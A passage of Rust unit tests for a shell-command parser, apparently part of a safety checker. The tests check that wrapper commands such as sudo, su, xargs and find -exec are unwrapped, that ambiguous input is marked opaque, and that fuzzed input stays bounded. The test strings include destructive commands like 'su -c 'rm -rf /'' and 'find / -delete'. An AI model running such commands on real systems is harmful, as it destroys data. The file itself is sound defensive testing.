            ("/usr/bin/time -f %e rm x", &[&["/usr/bin/time", "-f", "%e", "rm", "x"], &["rm", "x"]], false),
            ("chroot /mnt rm x", &[&["chroot", "/mnt", "rm", "x"], &["rm", "x"]], false),
            ("chroot /mnt", &[&["chroot", "/mnt"]], false),
            ("setsid -f rm x", &[&["setsid", "-f", "rm", "x"], &["rm", "x"]], false),
            ("unshare -rn rm x", &[&["unshare", "-rn", "rm", "x"], &["rm", "x"]], false),
            ("strace -f -o log rm x", &[&["strace", "-f", "-o", "log", "rm", "x"], &["rm", "x"]], false),
            ("ltrace -p 1", &[&["ltrace", "-p", "1"]], false),
            ("flock /tmp/l rm x", &[&["flock", "/tmp/l", "rm", "x"], &["rm", "x"]], false),
            ("flock -w 5 /tmp/l -c 'rm x'", &[&["flock", "-w", "5", "/tmp/l", "-c", "rm x"], &["rm", "x"]], false),
            ("taskset -c 0 rm x", &[&["taskset", "-c", "0", "rm", "x"], &["rm", "x"]], false),
            ("chrt -f 10 rm x", &[&["chrt", "-f", "10", "rm", "x"], &["rm", "x"]], false),
            ("unbuffer -p rm x", &[&["unbuffer", "-p", "rm", "x"], &["rm", "x"]], false),
            ("busybox rm x", &[&["busybox", "rm", "x"], &["rm", "x"]], false),
            ("busybox sh -c 'rm x'", &[&["busybox", "sh", "-c", "rm x"], &["sh", "-c", "rm x"], &["rm", "x"]], false),
            ("busybox --list", &[&["busybox", "--list"]], false),
            ("su -c 'rm -rf /'", &[&["su", "-c", "rm -rf /"], &["rm", "-rf", "/"]], false),
            ("su - root -c 'rm x'", &[&["su", "-", "root", "-c", "rm x"], &["rm", "x"]], false),
            ("su root --command=\"rm x\"", &[&["su", "root", "--command=rm x"], &["rm", "x"]], false),
            ("su -c \"$X\"", &[&["su", "-c", "$X"]], true),
            ("su root extra", &[&["su", "root", "extra"]], true),
            ("su", &[&["su"]], false),
            ("script -qc 'rm x' /dev/null", &[&["script", "-qc", "rm x", "/dev/null"], &["rm", "x"]], false),
            ("script out.log -c 'rm x'", &[&["script", "out.log", "-c", "rm x"], &["rm", "x"]], false),
            ("watch -n 1 'rm x; ls'", &[&["watch", "-n", "1", "rm x; ls"], &["rm", "x"], &["ls"]], false),
            ("watch ls -l", &[&["watch", "ls", "-l"], &["ls", "-l"]], false),
            ("watch -x rm x", &[&["watch", "-x", "rm", "x"], &["rm", "x"]], false),
            ("watch \"$X\"", &[&["watch", "$X"]], true),
            ("parallel rm ::: a b", &[&["parallel", "rm", ":::", "a", "b"], &["rm"]], false),
            ("parallel 'rm {}' ::: a", &[&["parallel", "rm {}", ":::", "a"], &["rm", "{}"]], false),
            ("parallel -j4 rm ::: a", &[&["parallel", "-j4", "rm", ":::", "a"]], true),
            ("parallel", &[&["parallel"]], true),
            ("sudo sudo -u x nice rm y", &[&["sudo", "sudo", "-u", "x", "nice", "rm", "y"], &["sudo", "-u", "x", "nice", "rm", "y"], &["nice", "rm", "y"], &["rm", "y"]], false),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn xargs_and_find() {
        check(&[
            ("xargs -0 rm", &[&["xargs", "-0", "rm"], &["rm"]], false),
            ("ls | xargs -I{} rm {}", &[&["ls"], &["xargs", "-I{}", "rm", "{}"], &["rm", "{}"]], false),
            ("xargs -n1 -P4 rm -f", &[&["xargs", "-n1", "-P4", "rm", "-f"], &["rm", "-f"]], false),
            ("xargs", &[&["xargs"]], false),
            ("xargs sh -c 'rm \"$@\"' _", &[&["xargs", "sh", "-c", "rm \"$@\"", "_"], &["sh", "-c", "rm \"$@\"", "_"], &["rm", "$@"]], false),
            ("xargs bash -c", &[&["xargs", "bash", "-c"], &["bash", "-c"]], true),
            ("xargs sh", &[&["xargs", "sh"], &["sh"]], true),
            ("xargs sudo", &[&["xargs", "sudo"], &["sudo"]], true),
            ("xargs -I{} sh -c 'rm {}'", &[&["xargs", "-I{}", "sh", "-c", "rm {}"], &["sh", "-c", "rm {}"]], true),
            ("xargs -I % sh -c 'echo %'", &[&["xargs", "-I", "%", "sh", "-c", "echo %"], &["sh", "-c", "echo %"]], true),
            ("xargs -I{} {}", &[&["xargs", "-I{}", "{}"], &["{}"]], true),
            ("xargs -i sudo {} x", &[&["xargs", "-i", "sudo", "{}", "x"], &["sudo", "{}", "x"], &["{}", "x"]], true),
            ("xargs $CMD", &[&["xargs", "$CMD"]], true),
            ("find . -name '*.tmp' -exec rm -f {} \\;",
                &[&["find", ".", "-name", "*.tmp", "-exec", "rm", "-f", "{}", ";"], &["rm", "-f", "{}"]], false),
            ("find . -exec rm {} + -execdir ls ';'",
                &[&["find", ".", "-exec", "rm", "{}", "+", "-execdir", "ls", ";"], &["rm", "{}"], &["ls"]], false),
            ("find / -delete", &[&["find", "/", "-delete"]], false),
            ("find \"$HOME/x\" -name a", &[&["find", "$HOME/x", "-name", "a"]], false),
            ("find . -name *.py", &[&["find", ".", "-name", "*.py"]], false),
            ("find . $ARGS", &[&["find", ".", "$ARGS"]], true),
            ("find . \"$X\" rm {} \\;", &[&["find", ".", "$X", "rm", "{}", ";"]], true),
            ("find . -exec rm {}", &[&["find", ".", "-exec", "rm", "{}"]], true),
            ("find . -exec rm {} ;", &[&["find", ".", "-exec", "rm", "{}"]], true),
            ("find . -exec {} \\;", &[&["find", ".", "-exec", "{}", ";"], &["{}"]], true),
            ("find . -exec sh -c 'rm {}' \\;", &[&["find", ".", "-exec", "sh", "-c", "rm {}", ";"], &["sh", "-c", "rm {}"]], true),
            ("find . -exec sh -c 'rm \"$1\"' _ {} \\;",
                &[&["find", ".", "-exec", "sh", "-c", "rm \"$1\"", "_", "{}", ";"], &["sh", "-c", "rm \"$1\"", "_", "{}"], &["rm", "$1"]], false),
            ("find . -exec bash {} \\;", &[&["find", ".", "-exec", "bash", "{}", ";"], &["bash", "{}"]], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn ordering_puts_the_outer_command_first() {
        check(&[
            ("echo $(a) $(b)", &[&["echo", "$(a)", "$(b)"], &["a"], &["b"]], true),
            ("x $(a) | y $(b)", &[&["x", "$(a)"], &["a"], &["y", "$(b)"], &["b"]], true),
            ("sudo x $(a)", &[&["sudo", "x", "$(a)"], &["x", "$(a)"], &["a"]], true),
        ]);
    }

    #[test]
    fn input_over_the_bound_is_opaque() {
        let line = format!("echo {}", "a".repeat(70 * 1024));
        assert_eq!(
            parse(&line),
            Parsed {
                commands: vec![],
                opaque: true
            }
        );
        let line = format!("echo {}", "a".repeat(MAX_INPUT - 5));
        assert!(!parse(&line).opaque);
    }

    #[test]
    fn deep_nesting_is_opaque() {
        let rm = vec!["rm".to_string(), "x".into()];
        let line = format!("{}rm x{}", "( ".repeat(40), " )".repeat(40));
        assert_eq!(
            parse(&line),
            Parsed {
                commands: vec![],
                opaque: true
            }
        );
        let line = format!("{}rm x{}", "( ".repeat(20), " )".repeat(20));
        assert_eq!(
            parse(&line),
            Parsed {
                commands: vec![rm.clone()],
                opaque: false
            }
        );
        // `((((` is arithmetic, as in bash.
        assert!(parse(&format!("{}rm x{}", "(".repeat(20), ")".repeat(20))).opaque);
        let line = format!("{}rm x{}", "{ ".repeat(40), "; }".repeat(40));
        assert!(parse(&line).opaque);
        let line = format!("{}rm x{}", "if a; then ".repeat(40), "; fi".repeat(40));
        assert!(parse(&line).opaque);
        let line = format!("echo {}x{}", "$(echo ".repeat(40), ")".repeat(40));
        assert!(parse(&line).opaque);
        // Quoting a script for `bash -c` grows it exponentially, so the size bound comes first;
        // within it, nested scripts are unwrapped.
        let mut line = "rm x".to_string();
        for _ in 0..8 {
            line = format!("bash -c {}", shell_quote(&line));
        }
        let p = parse(&line);
        assert_eq!(
            (p.commands.last(), p.commands.len(), p.opaque),
            (Some(&rm), 9, false)
        );
        let line = format!("{}rm x", "sudo ".repeat(40));
        assert!(parse(&line).opaque);
        let line = format!("{}x", "${y:-".repeat(40));
        assert!(parse(&line).opaque);
    }

    #[test]
    fn command_count_is_bounded() {
        let line = "a;".repeat(MAX_COMMANDS);
        let p = parse(&line);
        assert_eq!((p.commands.len(), p.opaque), (MAX_COMMANDS, false));
        let line = "a;".repeat(MAX_COMMANDS + 1);
        let p = parse(&line);
        assert_eq!((p.commands.len(), p.opaque), (MAX_COMMANDS, true));
    }

    #[test]
    fn nul_is_opaque() {
        assert!(parse("rm\0 x").opaque);
    }

    fn shell_quote(arg: &str) -> String {
        format!("'{}'", arg.replace('\'', r"'\''"))
    }

    /// xorshift64*: deterministic, no dependency.
    struct Rng(u64);

    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 >> 12;
            self.0 ^= self.0 << 25;
            self.0 ^= self.0 >> 27;
            self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
        }
    }

    /// Every prefix of complex lines, and random strings over shell-ish characters and
    /// random bytes: nothing panics, loops or exceeds its bounds.
    #[test]
    fn fuzz_never_panics() {
        let lines = [
            "if a; then b $(c `d` \"$(e)\") | f <<EOF && g; fi\n${x:-$(h)} $((1+2))\nEOF\ncase $y in (a|b) i;; *) j;& esac",
            "for x in $(ls); do sudo -u root env A=1 timeout -s KILL 5 bash -c 'rm -rf \"$x\"' & done 2>&1 | tee log",
            "f() { find . -exec sh -c 'echo {}' \\; ; xargs -I% rm %; } ; f <<-'E'\n\tbody\n\tE\n",
            "a=(1 [2]=x $(y)) b[1]=2 c=$'\\x41\\u00e9\\101' d=\"${e[@]}\" cmd <(p) >(q) {fd}>x",
            "[[ $a =~ ^(x|y)$ && -n \"${b#*/}\" ]] || (( c[$(d)] )) && coproc N { e; } ; function g { h; }",
            "echo \"a\\\"b\" 'c'\\''d' $\"e\" `f \\`g\\`` # comment\n\\\nwatch -n1 'ls | wc' ; su - -c 'id'",
        ];
        for line in lines {
            let chars: Vec<char> = line.chars().collect();
            for end in 0..=chars.len() {
                let prefix: String = chars[..end].iter().collect();
                let p = parse(&prefix);
                assert!(p.commands.len() <= MAX_COMMANDS);
            }
        }
        let alphabet: Vec<char> = "ab $(){}[]<>|&;'\"`\\\n\t#=!*?-~:,.@%^+/0123éx\u{a0}"
            .chars()
            .collect();
        let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
        for _ in 0..4000 {
            let len = (rng.next() % 60) as usize;
            let s: String = (0..len)
                .map(|_| alphabet[(rng.next() % alphabet.len() as u64) as usize])
                .collect();
            let p = parse(&s);
            assert!(p.commands.len() <= MAX_COMMANDS);
            let bytes: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
            parse(&String::from_utf8_lossy(&bytes));
        }
    }
}
